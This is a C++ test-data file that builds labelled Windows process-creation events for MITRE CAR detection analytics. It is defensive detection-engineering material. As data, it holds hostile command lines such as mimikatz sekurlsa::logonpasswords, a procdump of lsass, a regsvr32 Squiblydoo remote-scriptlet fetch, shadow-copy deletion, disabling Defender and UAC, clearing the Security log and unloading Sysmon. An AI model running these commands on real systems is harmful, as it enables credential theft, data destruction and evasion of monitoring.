// The cases of the catalogue's process/create analytics (Sysmon 1 and
// Security 4688 alike). Each process start is logged on both hosts; the
// labels say what each record must fire, from every analytic that sees it.
#include "catalogue_scenarios.hpp"

#include "account_audit_events.hpp"
#include "other_log_events.hpp"

namespace evtxcar::testdata {

namespace {

const std::string winlogon_image = sys32 + "winlogon.exe";
const std::string net_image = sys32 + "net.exe";
const std::string net1_image = sys32 + "net1.exe";
const std::string reg_image = sys32 + "reg.exe";
const std::string powershell_image = sys32 + R"(WindowsPowerShell\v1.0\powershell.exe)";
const std::string certutil_image = sys32 + "certutil.exe";
const std::string bitsadmin_image = sys32 + "bitsadmin.exe";
const std::string sc_image = sys32 + "sc.exe";

const std::string group_discovery = car_label("CAR-2020-11-006", "pseudocode");
const std::string net_accounts = car_label("CAR-2021-05-010", "pseudocode");
const std::string office_child = car_label("CAR-2021-01-006", "splunk");

void car_2013_02_003(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-02-003");
    log.process(program(cmd_image, "\"" + cmd_image + "\""), "cmd.exe started from the desktop", {cmd_label});
    log.next_case();
    log.process(program(cmd_image, cmd_image + " /c start report.docx",
                        R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)"),
                "cmd.exe started by Word", {cmd_label, office_child});
    log.next_case();
    log.process(program(sys32 + "cmdkey.exe", sys32 + "cmdkey.exe /list"), "cmdkey.exe is not cmd.exe", none);
    add_files(out, log, "cmd.exe started, from the desktop and from Word; cmdkey.exe is another program");
}

void car_2013_05_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-05-002");
    const std::string found = car_label("CAR-2013-05-002", "pseudocode");
    log.process(program(R"(C:\Windows\Tasks\notepad.exe)"), "notepad.exe copied to the Windows Tasks folder and run",
                {found});
    log.next_case();
    log.process(program(R"(C:\RECYCLER\S-1-5-21-1004\svc.exe)"), "a program run from RECYCLER", {found});
    log.next_case();
    log.process(program(R"(C:\$Recycle.Bin\S-1-5-21-1004\svc.exe)"), "a program run from the recycle bin", {found});
    log.next_case();
    log.process(program(R"(C:\System Volume Information\update.exe)"), "a program run from System Volume Information",
                {found});
    log.next_case();
    log.process(program(R"(C:\Windows\debug\tool.exe)"), "a program run from the Windows debug folder", {found});
    log.next_case();
    log.process(program(sys32 + "notepad.exe"), "notepad.exe where it belongs", none);
    log.next_case();
    log.process(program(R"(C:\Users\tester\Tasks\notepad.exe)"), "a Tasks folder that is not Windows'", none);
    add_files(out, log, "programs run from RECYCLER, $Recycle.Bin, System Volume Information, Windows\\Tasks, Windows\\debug; and not");
}

void car_2013_05_004(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-05-004");
    log.process(program(sys32 + "at.exe", "at 10:00 calc.exe"), "a job scheduled with at.exe",
                {car_label("CAR-2013-05-004", "pseudocode")});
    log.next_case();
    log.process(program(sys32 + "attrib.exe", "attrib +h C:\\Users\\tester\\notes.txt"), "attrib.exe is not at.exe", none);
    add_files(out, log, "at.exe, and attrib.exe");
}

void car_2013_07_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-07-001");
    const std::string found = car_label("CAR-2013-07-001", "pseudocode");
    const std::string address = car_label("CAR-2013-07-001", "ip-address");
    const std::string archive = car_label("CAR-2013-07-005", "pseudocode");
    log.process(program(R"(C:\Users\tester\Downloads\putty.exe)",
                        "putty.exe -pw Winter2026 -R 8080:intranet:80 admin@jump.example.net"),
                "PuTTY remote port forwarding with a password (CAR's test)", {found});
    log.next_case();
    log.process(program(R"(C:\Users\tester\Downloads\putty.exe)",
                        "putty.exe -ssh -R 9000:db01:1433 admin@jump.example.net -pw Winter2026"),
                "port forwarding, -R before -pw", {found});
    log.next_case();
    log.process(program(R"(C:\Tools\mimikatz.exe)", "mimikatz.exe \"sekurlsa::logonpasswords\" exit"),
                "mimikatz's sekurlsa module", {found});
    log.next_case();
    log.process(program(R"(C:\Program Files\WinRAR\rar.exe)", "rar.exe a -hp Secret1 out.rar C:\\Users\\tester\\data"),
                "RAR with a header password", {found, archive});
    log.next_case();
    log.process(program(sys32 + "PING.EXE", "ping.exe 192.168.10.20"), "an address on the command line", {address});
    log.next_case();
    log.process(program(sys32 + "PING.EXE", "ping.exe intranet.corp.example"), "a host by name", none);
    log.next_case();
    log.process(program(R"(C:\Users\tester\Downloads\setup.exe)", "setup.exe /version 1.2.3.400"),
                "four numbers that are no address (400)", none);
    add_files(out, log, "PuTTY/plink with -R and -pw, mimikatz sekurlsa, rar -hp, rar a, an IPv4 address; and command lines without");
}

void car_2013_07_005(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-07-005");
    log.process(program(R"(C:\Program Files\7-Zip\7z.exe)", "7z.exe a test.zip test.txt"), "7-Zip adding to an archive (CAR's test)",
                {car_label("CAR-2013-07-005", "pseudocode"), car_label("CAR-2013-07-001", "pseudocode")});
    log.next_case();
    log.process(program(R"(C:\Program Files\7-Zip\7z.exe)", "7z.exe x test.zip"), "7-Zip extracting", none);
    add_files(out, log, "an archiver's add command, and its extract command");
}

void car_2013_08_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-08-001");
    const std::string any = car_label("CAR-2013-08-001", "pseudocode");
    const std::string command = car_label("CAR-2013-08-001", "logpoint");
    const std::string suspicious = car_label("CAR-2021-12-001", "process");
    const std::string schtasks = sys32 + "schtasks.exe";
    log.process(program(schtasks, R"(schtasks /Create /SC ONCE /ST 19:00 /TR C:\Windows\System32\calc.exe /TN calctask)"),
                "a task created (CAR's test)", {any, command, suspicious});
    log.next_case();
    log.process(program(schtasks, "schtasks /Delete /TN calctask /F"), "the task deleted (CAR's test)", {any, command});
    log.next_case();
    log.process(program(schtasks, "\"" + schtasks + "\""), "schtasks.exe without a command", {any});
    log.next_case();
    log.process(program(sys32 + "mmc.exe", R"("C:\Windows\system32\mmc.exe" C:\Windows\system32\taskschd.msc)"),
                "the Task Scheduler console is not schtasks.exe", none);
    add_files(out, log, "schtasks.exe with /Create and /Delete and without a command; the Task Scheduler console");
}

void car_2014_03_006(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-03-006");
    const std::string found = car_label("CAR-2014-03-006", "pseudocode");
    log.process(program(sys32 + "rundll32.exe", "RUNDLL32.EXE SHELL32.DLL,Control_RunDLL desk.cpl,,0"),
                "rundll32.exe running a control panel applet (CAR's test)", {found});
    log.next_case();
    log.process(program(R"(C:\Windows\SysWOW64\rundll32.exe)"), "the 32-bit rundll32.exe (CAR's test)", {found});
    log.next_case();
    log.process(program(sys32 + "regsvr32.exe", R"(regsvr32.exe /s C:\Windows\System32\shell32.dll)"),
                "regsvr32.exe is not rundll32.exe", none);
    add_files(out, log, "rundll32.exe (System32 and SysWOW64), and regsvr32.exe");
}

void car_2014_04_003(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-04-003");
    const std::string found = car_label("CAR-2014-04-003", "pseudocode");
    log.process(program(powershell_image, "powershell.exe -nop -w hidden -c Get-Date", cmd_image),
                "powershell.exe started by cmd.exe", {found});
    log.next_case();
    log.process(program(powershell_image, "powershell.exe -enc RwBlAHQALQBEAGEAdABlAA==",
                        R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)"),
                "powershell.exe started by Word", {found, office_child});
    log.next_case();
    log.process(program(powershell_image, "powershell.exe"), "powershell.exe started from the desktop", none);
    add_files(out, log, "powershell.exe from cmd.exe and from Word; and from explorer.exe");
}

void car_2014_05_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-05-002");
    log.process(as_system(program(cmd_image, cmd_image + R"( /c echo installed > C:\Windows\Temp\svc.txt)", services_image)),
                "cmd.exe as a service's program", {car_label("CAR-2014-05-002", "pseudocode"), cmd_label});
    log.next_case();
    log.process(program(cmd_image), "cmd.exe from the desktop", {cmd_label});
    add_files(out, log, "cmd.exe started by services.exe, and from explorer.exe");
}

void car_2014_07_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-07-001");
    log.process(as_system(program(R"(C:\Program.exe)", R"(C:\Program Files\Vendor App\service.exe -k run)", services_image)),
                "C:\\Program.exe run for the unquoted service path C:\\Program Files\\Vendor App\\service.exe",
                {car_label("CAR-2014-07-001", "pseudocode")});
    log.next_case();
    log.process(as_system(program(R"(C:\Program Files\Vendor App\service.exe)",
                                  R"(C:\Program Files\Vendor App\service.exe -k run)", services_image)),
                "the service's own program (its path has a space)", none);
    log.next_case();
    log.process(as_system(program(R"(C:\Vendor\agent.exe)", R"(C:\Vendor\agent.exe -k run)", services_image)),
                "a service whose command line names its program", none);
    add_files(out, log, "an unquoted service path intercepted by C:\\Program.exe; the real service program; a plain service");
}

void car_2014_11_003(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-11-003");
    const std::string found = car_label("CAR-2014-11-003", "pseudocode");
    log.process(program(cmd_image, "cmd.exe Magnify.exe"), "cmd.exe with an accessibility program as its argument (CAR's test)",
                {found, cmd_label});
    log.next_case();
    log.process(as_system(program(cmd_image, "\"" + cmd_image + "\" sethc.exe 211", winlogon_image)),
                "cmd.exe as sethc.exe's debugger at the logon screen",
                {found, cmd_label, car_label("CAR-2014-11-008", "pseudocode")});
    log.next_case();
    log.process(as_system(program(sys32 + "sethc.exe", "sethc.exe 211", winlogon_image)), "sethc.exe itself", none);
    log.next_case();
    log.process(program(sys32 + "notepad.exe", R"(notepad.exe C:\Users\tester\osk_manual.txt)"),
                "a file name close to osk.exe", none);
    log.next_case();
    log.process(program(R"(C:\Windows\explorer.exe)", R"(C:\Windows\explorer.exe C:\Kiosk\kiosk.exe)"),
                "a program whose name ends in osk.exe", none);
    add_files(out, log, "accessibility programs as another program's argument; sethc.exe itself");
}

void car_2014_11_004(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-11-004");
    const std::string wsmprovhost = sys32 + "wsmprovhost.exe";
    log.process(program(wsmprovhost, wsmprovhost + " -Embedding", sys32 + "svchost.exe"),
                "a remote PowerShell session's host", {car_label("CAR-2014-11-004", "pseudocode")});
    log.next_case();
    log.process(program(wsmprovhost, wsmprovhost + " -Embedding"), "wsmprovhost.exe from the desktop", none);
    add_files(out, log, "wsmprovhost.exe from svchost.exe, and from explorer.exe");
}

void car_2014_11_008(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-11-008");
    log.process(as_system(program(cmd_image, "\"" + cmd_image + "\"", winlogon_image)), "cmd.exe at the logon screen",
                {car_label("CAR-2014-11-008", "pseudocode"), cmd_label});
    log.next_case();
    log.process(program(cmd_image, "\"" + cmd_image + "\"", sys32 + "userinit.exe"), "cmd.exe started by userinit.exe",
                {cmd_label});
    add_files(out, log, "cmd.exe from winlogon.exe, and from userinit.exe");
}

void car_2016_03_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2016-03-001");
    const std::string sc_any = car_label("CAR-2021-01-007", "pseudocode");
    log.process(program(sys32 + "HOSTNAME.EXE", "hostname"), "hostname", {host_discovery});
    log.next_case();
    log.process(program(sys32 + "whoami.exe", "whoami /all"), "whoami", {host_discovery});
    log.next_case();
    log.process(program(sc_image, sc_image + " query Spooler"), "sc query", {host_discovery, sc_any});
    log.next_case();
    log.process(program(sc_image, "sc qc Spooler"), "sc qc", {host_discovery});
    log.next_case();
    log.process(program(net_image, "net view \\\\fs01"), "net view", {host_discovery});
    log.next_case();
    log.process(program(sc_image, sc_image + " start Spooler"), "sc start is no query", none);
    add_files(out, log, "hostname, whoami, sc query/qc, net; sc start");
}

void car_2016_03_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2016-03-002");
    const std::string wmic = sys32 + R"(wbem\WMIC.exe)";
    log.process(program(wmic, R"(wmic.exe /node:"FS01" process call create "cmd.exe /c whoami")"),
                "a process created on another host", {car_label("CAR-2016-03-002", "pseudocode")});
    log.next_case();
    log.process(program(wmic, R"(wmic.exe process call create "notepad.exe")"), "a process created on this host", none);
    add_files(out, log, "wmic process call create with and without /node:");
}

void car_2019_04_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2019-04-001");
    const std::string found = car_label("CAR-2019-04-001", "pseudocode");
    log.process(with_integrity(program(sys32 + "notepad.exe", {}, sys32 + "fodhelper.exe"), "High"),
                "a high-integrity child of fodhelper.exe (UACME 33)", {found});
    log.next_case();
    log.process(with_integrity(program(R"(C:\Users\tester\AppData\Local\Temp\evil.exe)", {}, sys32 + "slui.exe"), "High"),
                "a high-integrity child of slui.exe (UACME 45)", {found});
    log.next_case();
    log.process(with_integrity(program(R"(C:\Program Files\Windows Media Player\osk.exe)"), "High"),
                "osk.exe from Windows Media Player's folder (UACME 32)", {found});
    log.next_case();
    {
        process_spec wusa = with_integrity(program(sys32 + "wusa.exe", R"("c:\windows\system32\wusa.exe" C:\Users\tester\x.msu /quiet)",
                                                   R"(C:\Users\tester\Downloads\loader.exe)"),
                                           "High");
        wusa.current_directory = R"(C:\Windows\system32\)";
        log.process(wusa, "wusa.exe /quiet from System32 by another program (UACME 36: Sysmon logs the folder, 4688 does not)",
                    {found}, none);
    }
    log.next_case();
    log.process(with_integrity(program(R"(C:\Users\tester\AppData\Local\Temp\payload.exe)", {}, sys32 + "dccw.exe"), "High"),
                "a high-integrity child of dccw.exe (UACME 37)", {found});
    log.next_case();
    log.process(program(sys32 + "notepad.exe", {}, sys32 + "fodhelper.exe"), "a medium-integrity child of fodhelper.exe",
                none);
    log.next_case();
    log.process(with_integrity(program(sys32 + "cttune.exe", {}, sys32 + "dccw.exe"), "High"), "dccw.exe's own cttune.exe",
                none);
    add_files(out, log, "high-integrity processes in the shapes of UACME methods 32, 33, 36, 37 and 45; and the same at medium "
                  "integrity, and dccw's own child");
}

void car_2019_04_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2019-04-002");
    const std::string child = car_label("CAR-2019-04-002", "child");
    const std::string child_system = car_label("CAR-2019-04-002", "child-system");
    const std::string unsigned_module = car_label("CAR-2019-04-002", "unsigned-module");
    const std::string regsvr32 = sys32 + "regsvr32.exe";
    const started registering = log.running(regsvr32, regsvr32 + R"( /s C:\Users\tester\AppData\Local\Temp\evil.dll)",
                                            "CORP\\tester");
    log.process(program(R"(C:\Users\tester\AppData\Local\Temp\payload.exe)"), "a program started by System32's regsvr32.exe",
                {child, child_system}, {child, child_system}, &registering);
    log.next_case();
    log.process(program(sys32 + "WerFault.exe", sys32 + "WerFault.exe -u -p 4242"), "WerFault.exe started by regsvr32.exe",
                {child}, {child}, &registering);
    log.next_case();
    const started copied = log.running(R"(C:\Tools\regsvr32.exe)", R"(C:\Tools\regsvr32.exe /s C:\Tools\x.dll)", "CORP\\tester");
    log.process(program(R"(C:\Users\tester\AppData\Local\Temp\payload.exe)"), "a program started by a copy of regsvr32.exe",
                {child}, {child}, &copied);
    log.next_case();
    log.process(program(regsvr32, regsvr32 + " /s x.dll"), "regsvr32.exe starting regsvr32.exe", none, none, &registering);
    log.next_case();
    log.image_load(registering, R"(C:\Users\tester\AppData\Local\Temp\evil.dll)", "", "regsvr32.exe loads an unsigned DLL",
                   {unsigned_module});
    log.image_load(registering, sys32 + "scrobj.dll", "Microsoft Windows", "regsvr32.exe loads a signed Windows DLL", none);
    log.image_load(registering, R"(C:\Program Files\Vendor\plugin.dll)", "", "an unsigned DLL from Program Files", none);
    log.image_load(registering, R"(C:\Program Files (x86)\Vendor\plugin32.dll)", "",
                   "an unsigned DLL from Program Files (x86)", none);
    add_files(out, log, "children of regsvr32.exe (System32's and a copy's), WerFault.exe and regsvr32.exe among them; "
                  "modules regsvr32.exe loads (Sysmon 7)");
}

void car_2019_04_003(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2019-04-003");
    log.process(program(sys32 + "regsvr32.exe", "regsvr32.exe /s /n /u /i:http://updates.example.net/file.sct scrobj.dll"),
                "Squiblydoo: a remote scriptlet through scrobj.dll", {car_label("CAR-2019-04-003", "pseudocode")});
    log.next_case();
    log.process(program(sys32 + "regsvr32.exe", R"(regsvr32.exe /s C:\Windows\System32\shell32.dll)"),
                "regsvr32.exe registering a DLL", none);
    add_files(out, log, "regsvr32.exe with scrobj.dll, and with another DLL");
}

void car_2019_07_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2019-07-002");
    const std::string found = car_label("CAR-2019-07-002", "pseudocode");
    const std::string access = car_label("CAR-2019-07-002", "access");
    const std::string procdump = R"(C:\Tools\procdump64.exe)";
    log.process(program(procdump, R"(procdump64.exe -accepteula -ma lsass.exe C:\Temp\lsass.dmp)"),
                "procdump of lsass.exe (CAR's test)", {found, dumping_logons});
    log.next_case();
    log.process(program(procdump, "procdump64.exe -ma notepad.exe"), "procdump of another process", none);
    log.next_case();
    const started dumper = log.running(procdump, "procdump64.exe -ma lsass.exe", "CORP\\tester");
    const started lsass = log.running(sys32 + "lsass.exe", sys32 + "lsass.exe");
    const started notepad = log.running(sys32 + "notepad.exe", "notepad.exe", "CORP\\tester");
    const std::string trace = R"(C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Tools\procdump64.exe+1a2b3)";
    log.process_access(dumper, lsass, 0x1FFFFF, trace, "procdump opens lsass.exe with all access", {access, dumping_logons});
    log.process_access(dumper, notepad, 0x1FFFFF, trace, "procdump opens notepad.exe", none);
    add_files(out, log, "procdump naming lsass, and another process; procdump opening lsass.exe with all access (Sysmon 10)");
}

void car_2020_09_003(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-09-003");
    log.process(program(sys32 + "fltMC.exe", "fltMC.exe unload SysmonDrv"), "Sysmon's driver unloaded",
                {car_label("CAR-2020-09-003", "pseudocode")});
    log.next_case();
    log.process(program(sys32 + "fltMC.exe", "fltmc.exe filters"), "filter drivers listed", none);
    add_files(out, log, "fltmc unload, and fltmc filters");
}

void car_2020_09_004(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-09-004");
    const std::string found = car_label("CAR-2020-09-004", "pseudocode");
    log.process(program(reg_image, "reg query HKLM /f password /t REG_SZ /s"), "passwords searched in HKLM", {found});
    log.next_case();
    log.process(program(reg_image, "reg query HKCU /f password /t REG_SZ /s"), "passwords searched in HKCU", {found});
    log.next_case();
    log.process(program(powershell_image, "powershell.exe -c \"Get-UnattendedInstallFile\""), "PowerSploit's finder",
                {found});
    log.next_case();
    log.process(program(reg_image, R"(reg query HKLM\Software\Microsoft)"), "an ordinary reg query", none);
    add_files(out, log, "reg query /f password of HKLM and HKCU, Get-UnattendedInstallFile; and a plain reg query");
}

void car_2020_11_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-11-002");
    const std::string found = car_label("CAR-2020-11-002", "pseudocode");
    log.process(program(R"(C:\Program Files\Wireshark\tshark.exe)", "tshark.exe -i 1 -w C:\\Users\\tester\\cap.pcapng"),
                "tshark capturing", {found});
    log.next_case();
    log.process(program(sys32 + "logman.exe", R"(logman.exe start trace1 -p Microsoft-Windows-TCPIP -o C:\Temp\t.etl)"),
                "logman started by a user's program", {found});
    log.next_case();
    log.process(program(sys32 + "wpr.exe", "wpr.exe -start GeneralProfile"), "Windows Performance Recorder", {found});
    log.next_case();
    log.process(program(sys32 + "logman.exe", "logman.exe query",
                        R"(C:\Program Files\Windows Event Reporting\Core\EventReporting.AgentService.exe)"),
                "logman started by the Windows Event Reporting agent", none);
    add_files(out, log, "tshark, logman, wpr; logman by the Event Reporting agent");
}

void car_2020_11_003(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-11-003");
    log.process(program(sys32 + "mavinject.exe", sys32 + R"(mavinject.exe 3456 /INJECTRUNNING C:\Users\tester\evil.dll)"),
                "mavinject injecting a DLL", {car_label("CAR-2020-11-003", "pseudocode")});
    log.next_case();
    log.process(program(sys32 + "notepad.exe", R"(notepad.exe C:\Users\tester\mavinject.txt)"), "a file named mavinject",
                none);
    add_files(out, log, "mavinject /INJECTRUNNING, and a file of that name");
}

void car_2020_11_004(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-11-004");
    const std::string found = car_label("CAR-2020-11-004", "pseudocode");
    log.process(as_system(program(sys32 + "lsass.exe", sys32 + "lsass.exe", cmd_image)), "lsass.exe started by cmd.exe", {found});
    log.next_case();
    log.process(as_system(program(sys32 + "services.exe", sys32 + "services.exe")), "services.exe started from the desktop",
                {found});
    log.next_case();
    log.process(program(sys32 + "userinit.exe", sys32 + "userinit.exe", sys32 + "svchost.exe"), "userinit.exe from svchost.exe",
                {found});
    log.next_case();
    log.process(as_system(program(sys32 + "lsass.exe", sys32 + "lsass.exe", sys32 + "wininit.exe")),
                "lsass.exe started by wininit.exe", none);
    log.next_case();
    log.process(as_system(program(sys32 + "smss.exe", R"(\SystemRoot\System32\smss.exe)", "System")), "smss.exe started by System",
                none);
    add_files(out, log, "lsass, services and userinit from parents they never have; lsass from wininit, smss from System");
}

void car_2020_11_005(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-11-005");
    const std::string found = car_label("CAR-2020-11-005", "pseudocode");
    log.process(program(powershell_image, "powershell.exe -c \"Remove-Item (Get-PSReadlineOption).HistorySavePath\""),
                "the history file removed", {found});
    log.next_case();
    log.process(program(powershell_image, "powershell.exe Set-PSReadlineOption \u2013HistorySaveStyle SaveNothing"),
                "history turned off (an en dash, as CAR writes it)", {found});
    log.next_case();
    log.process(program(cmd_image, cmd_image + R"( /c del C:\Users\tester\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadline\ConsoleHost_history.txt)"),
                "the history file deleted with del", {found, cmd_label});
    log.next_case();
    log.process(program(powershell_image, "powershell.exe Get-PSReadlineOption"), "the options read", none);
    add_files(out, log, "the PowerShell history removed, turned off, deleted; and read");
}

void car_2020_11_006(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-11-006");
    log.process(program(net_image, "net localgroup administrators"), "local administrators listed",
                {group_discovery, host_discovery, net_accounts});
    log.next_case();
    log.process(program(net1_image, "net1 user /domain"), "domain users listed with net1", {group_discovery, net_accounts});
    log.next_case();
    log.process(program(powershell_image, "powershell.exe -c Get-LocalGroup"), "Get-LocalGroup", {group_discovery});
    log.next_case();
    log.process(program(net_image, "net view \\\\fs01"), "net view lists shares, not groups", {host_discovery});
    add_files(out, log, "net localgroup, net1 user, Get-LocalGroup; net view");
}

void car_2020_11_007(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-11-007");
    const std::string found = car_label("CAR-2020-11-007", "pseudocode");
    log.process(program(net_image, "net use Z: /delete"), "a mapped drive removed", {found, host_discovery});
    log.next_case();
    log.process(program(powershell_image, "powershell.exe Remove-SmbShare -Name Data -Force"), "a share removed", {found});
    log.next_case();
    log.process(program(net_image, "net use Z: \\\\fs01\\data"), "a drive mapped", {host_discovery});
    add_files(out, log, "net use /delete, Remove-SmbShare; net use");
}

void car_2020_11_008(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-11-008");
    const std::string found = car_label("CAR-2020-11-008", "pseudocode");
    const std::string msbuild = R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe)";
    log.process(program(msbuild, msbuild + R"( C:\Users\tester\build.xml)"), "MSBuild of the .NET Framework run by a user",
                {found});
    log.next_case();
    log.process(program(R"(C:\Users\tester\AppData\Roaming\Microsoft\msxsl.exe)", "msxsl.exe data.xml transform.xsl"),
                "msxsl.exe in a user's AppData", {found});
    log.next_case();
    log.process(program(msbuild, msbuild + R"( C:\src\app.sln)",
                        R"(C:\Program Files (x86)\Microsoft Visual Studio\2019\Community\Common7\IDE\devenv.exe)"),
                "MSBuild started by Visual Studio", none);
    add_files(out, log, "MSBuild and msxsl outside Visual Studio; MSBuild from Visual Studio");
}

void car_2020_11_009(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-11-009");
    const std::string found = car_label("CAR-2020-11-009", "pseudocode");
    log.process(program(sys32 + "hh.exe", R"(hh.exe C:\Users\tester\Downloads\manual.chm)"), "a help file opened", {found});
    log.next_case();
    log.process(program(R"(C:\Windows\SysWOW64\hh.exe)", R"(hh.exe C:\Users\tester\Downloads\guide.chm)"),
                "the 32-bit help viewer", {found});
    log.next_case();
    log.process(program(R"(C:\Windows\hh.exe)", R"("C:\Windows\hh.exe" C:\Users\tester\Downloads\invoice.chm)"),
                "the help viewer of 64-bit Windows, in C:\\Windows", {found});
    log.next_case();
    log.process(program(R"(C:\Tools\hh.exe)", R"(C:\Tools\hh.exe)"), "another program named hh.exe", none);
    add_files(out, log, "hh.exe of C:\\Windows, System32 and SysWOW64; a program of that name elsewhere");
}

void car_2021_01_003(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-01-003");
    const std::string wevtutil = sys32 + "wevtutil.exe";
    log.process(program(wevtutil, "wevtutil.exe cl Security"), "the Security log cleared",
                {car_label("CAR-2021-01-003", "splunk"), car_label("CAR-2016-04-002", "splunk")});
    log.next_case();
    log.process(program(wevtutil, "wevtutil.exe qe Security /c:5"), "events read", none);
    add_files(out, log, "wevtutil cl, and wevtutil qe");
}

void car_2021_01_004(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-01-004");
    const std::string splunk = car_label("CAR-2021-01-004", "splunk");
    const std::string spoolsv = car_label("CAR-2021-01-004", "spoolsv");
    log.process(as_system(program(sys32 + "spoolsv.exe", sys32 + "spoolsv.exe", cmd_image)), "the spooler started from cmd.exe",
                {splunk, spoolsv, car_label("CAR-2020-11-004", "pseudocode")});
    log.next_case();
    log.process(program(sys32 + "conhost.exe", R"(\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1)", cmd_image),
                "cmd.exe's console host", {splunk});
    log.next_case();
    log.process(as_system(program(sys32 + "spoolsv.exe", sys32 + "spoolsv.exe", services_image)),
                "the spooler started by the Service Control Manager", none);
    add_files(out, log, "spoolsv.exe and conhost.exe from cmd.exe; spoolsv.exe from services.exe");
}

void car_2021_01_006(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-01-006");
    log.process(program(cmd_image, cmd_image + " /c calc.exe", R"(C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE)"),
                "cmd.exe started by Excel (DDE)", {office_child, cmd_label});
    log.next_case();
    log.process(program(R"(C:\Users\tester\AppData\Local\Temp\payload.exe)", {},
                        R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)"),
                "a program started by Outlook", {office_child});
    log.next_case();
    log.process(program(sys32 + "notepad.exe"), "notepad.exe from the desktop", none);
    add_files(out, log, "programs started by Excel and Outlook; and from explorer.exe");
}

void car_2021_01_007(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-01-007");
    const std::string any = car_label("CAR-2021-01-007", "pseudocode");
    const std::string defender = car_label("CAR-2021-01-007", "splunk");
    log.process(program(sc_image, "sc.exe config WinDefend start= disabled"), "Defender's service disabled", {any, defender});
    log.next_case();
    log.process(program(sc_image, "sc stop WinDefend"), "Defender's service stopped", {any, defender});
    log.next_case();
    log.process(program(sc_image, sc_image + " query Spooler"), "another service queried", {any, host_discovery});
    log.next_case();
    log.process(program(sc_image, "sc.exe start WinDefend"), "Defender's service started", none);
    add_files(out, log, "sc config/stop WinDefend, sc query of another service, sc start WinDefend");
}

void car_2021_01_008(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-01-008");
    log.process(program(reg_image, R"(reg.exe add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 0 /f)",
                        cmd_image),
                "EnableLUA set to 0 from cmd.exe", {car_label("CAR-2021-01-008", "pseudocode")});
    log.next_case();
    log.process(program(reg_image, R"(reg.exe add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 1 /f)",
                        cmd_image),
                "EnableLUA set to 1", none);
    add_files(out, log, "UAC turned off and on with reg add from cmd.exe");
}

void car_2021_01_009(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-01-009");
    const std::string commands = car_label("CAR-2021-01-009", "commands");
    log.process(program(sys32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"), "shadow copies deleted (CAR's test)",
                {commands});
    log.next_case();
    log.process(program(sys32 + R"(wbem\WMIC.exe)", "wmic shadowcopy delete"), "shadow copies deleted with wmic (CAR's test)",
                {commands});
    log.next_case();
    log.process(program(sys32 + "vssadmin.exe", "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB"),
                "shadow storage shrunk (CAR's test)", {commands});
    log.next_case();
    log.process(program(sys32 + "vssadmin.exe", "vssadmin list shadows"), "shadow copies listed", none);
    log.next_case();
    log.wmi(wmi_provider_started(log.audited_host(), log.next_time(), "MSVSS__PROVIDER", 4412, "%systemroot%\\system32\\vsswmi.dll"),
            "WMI starts the shadow copy provider (5857)", {car_label("CAR-2021-01-009", "wmi-provider")});
    log.wmi(wmi_provider_started(log.audited_host(), log.next_time(), "CIMWin32", 4412, "%systemroot%\\system32\\wbem\\cimwin32.dll"),
            "WMI starts another provider (5857)", none);
    wmi_client_failure shadow;
    shadow.client_machine = "A2021-01-009";
    shadow.user = "CORP\\tester";
    shadow.client_process_id = 6120;
    shadow.operation = "Start IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM Win32_ShadowCopy";
    log.wmi(wmi_operation_failed(log.audited_host(), log.next_time(), shadow), "a Win32_ShadowCopy operation reported (5858)",
            {car_label("CAR-2021-01-009", "wmi-operation")});
    wmi_client_failure other = shadow;
    other.operation = "Start IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM Win32_Service";
    log.wmi(wmi_operation_failed(log.audited_host(), log.next_time(), other), "another operation reported (5858)", none);
    add_files(out, log, "vssadmin delete/resize, wmic shadowcopy delete, vssadmin list; WMI-Activity 5857 and 5858");
}

